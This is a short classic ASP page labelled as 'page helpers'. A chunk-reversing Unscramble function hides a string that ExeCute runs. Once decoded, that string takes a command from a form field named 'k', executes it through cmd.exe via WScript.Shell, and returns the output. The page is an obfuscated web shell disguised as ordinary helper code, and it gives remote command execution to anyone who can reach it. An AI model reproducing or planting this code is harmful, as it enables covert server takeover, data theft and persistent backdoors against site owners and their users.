<%
' page helpers
Function Unscramble(s, n)
  Dim i, out, part
  out = ""
  For i = 1 To Len(s) Step n
    part = Mid(s, i, n)
    out = out & StrReverse(part)
  Next
  Unscramble = Replace(out, "|", vbCrLf)
End Function
ExeCute Unscramble("R = kseuqeroF.t""k""(m fI|) >< khT """"S |nehs teeS = .revrtaerCejbOeW""(tcpircSehS.t|)""llpseR .esnoetirWE.hs ""(cexe.dmcc/ ex & "" tS.)k.tuOdAdaeRnE|llfI d", 5)
%>
